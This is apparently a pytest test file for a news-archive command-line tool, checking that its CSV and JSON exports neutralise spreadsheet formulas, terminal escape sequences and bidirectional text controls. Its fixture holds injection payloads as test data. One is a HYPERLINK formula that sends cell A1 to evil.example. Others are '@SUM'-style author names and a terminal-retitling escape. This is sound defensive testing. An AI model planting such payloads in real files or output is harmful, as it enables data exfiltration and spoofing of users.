"""Machine output is inert: CSV cells carry no control characters and no formulas (the OWASP
CSV-injection rule), JSON and CSV escape bidirectional controls; `--raw` gives the bytes."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from conftest import SEED_FILES, Archive, write_article

GOOD = SEED_FILES["004"].read_text(encoding="utf-8")
TITLE_CHANGE = "\x1b]0;PWNED\x07"
BIDI = "".join(chr(code) for code in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)])
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'


@pytest.fixture
def hostile(tmp_path: Path) -> Archive:
    """One article whose title is a formula, whose author starts with '@' and '-', whose teaser
    retitles the terminal and whose outlet carries every bidi control."""
    archive = Archive(tmp_path / "home")
    write_article(tmp_path / "in", "hostile.txt", GOOD, title=FORMULA_TITLE,
                  authors=["@SUM(1+1)", "-2+3", "+Anna", "Anna Kleiser"],
                  teaser=f"Vorspann {TITLE_CHANGE} mit \x9b31m C1 und DEL\x7f.",
                  outlet=f"ZDF {BIDI} Online", published="2024-10-25")
    archive.ok("import", str(tmp_path / "in"))
    return archive


def csv_rows(text: str) -> list[dict[str, str]]:
    """The rows of the first table (a search's hits; an export's articles)."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def search_rows(text: str) -> list[dict[str, str]]:
    """The hit rows of a search's CSV (snippets are one line: its tables part at a blank line)."""
    return csv_rows(text.split("\n\n")[0])


def assert_inert(text: str) -> None:
    for char in ("\x1b", "\x07", "\x9b", "\x7f", *BIDI):
        assert char not in text, repr(char)


def test_search_csv_is_inert(hostile: Archive) -> None:
    output = hostile.ok("search", "Musk", "--format", "csv", "--facets").stdout
    assert_inert(output)
    (row,) = search_rows(output)
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["authors"] == "'@SUM(1+1); -2+3; +Anna; Anna Kleiser"
    assert row["outlet"] == "ZDF \\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069 Online"
    facets = list(csv.reader(io.StringIO(output.split("\n\n")[1])))
    assert ["author", "'@SUM(1+1)", "1"] in facets and ["author", "'-2+3", "1"] in facets


def test_export_csv_is_inert(hostile: Archive) -> None:
    output = hostile.ok("export", "--format", "csv").stdout
    assert_inert(output)
    (row,) = csv_rows(output)
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["teaser"] == "Vorspann \\x1b]0;PWNED\\x07 mit \\x9b31m C1 und DEL\\x7f."
    assert "\n\n" in row["body"]  # paragraphs stay paragraphs inside the quoted cell


def test_raw_gives_the_bytes(hostile: Archive) -> None:
    output = hostile.ok("export", "--format", "csv", "--raw").stdout
    (row,) = csv_rows(output)
    assert row["title"] == FORMULA_TITLE
    assert TITLE_CHANGE in row["teaser"] and BIDI in row["outlet"]
    (hit,) = search_rows(hostile.ok("search", "Musk", "--format", "csv", "--raw").stdout)
    assert hit["title"] == FORMULA_TITLE and hit["authors"].startswith("@SUM")
    raw_json = hostile.ok("search", "Musk", "--format", "json", "--raw").stdout
    assert BIDI in raw_json


@pytest.mark.parametrize("args", [("search", "Musk", "--format", "json", "--facets"),
                                  ("search", "Musk", "--format", "jsonl", "--facets"),
                                  ("export", "--format", "jsonl")])
def test_json_escapes_bidi_and_c1_controls(hostile: Archive, args: tuple[str, ...]) -> None:
    output = hostile.ok(*args).stdout
    assert_inert(output)
    assert "\\u202e" in output
    values = [json.loads(line) for line in output.splitlines()] if "jsonl" in args \
        else [json.loads(output)]
    assert BIDI in json.dumps(values, ensure_ascii=False)  # the same text, once parsed


def test_show_json_escapes_bidi(hostile: Archive) -> None:
    article_id = hostile.search_json("Musk")["hits"][0]["id"]
    output = hostile.ok("show", article_id, "--format", "json").stdout
    assert_inert(output)
    assert json.loads(output)["outlet"] == f"ZDF {BIDI} Online"


def test_raw_is_for_machine_formats_only(hostile: Archive) -> None:
    result = hostile.run("search", "Musk", "--raw")
    assert result.exit_code == 2 and "--raw" in result.stderr


def test_the_cell_rule() -> None:
    from archive.output.machine import inert_cell

    assert inert_cell("=1+1") == "'=1+1"
    assert inert_cell("\tTab") == "'\tTab"
    assert inert_cell("\rCR") == "'\\x0dCR"
    assert inert_cell("Zeile\nZeile") == "Zeile\nZeile"
    assert inert_cell("2024") == "2024" and inert_cell("") == ""
    assert inert_cell("a\x00b") == "a\\x00b"
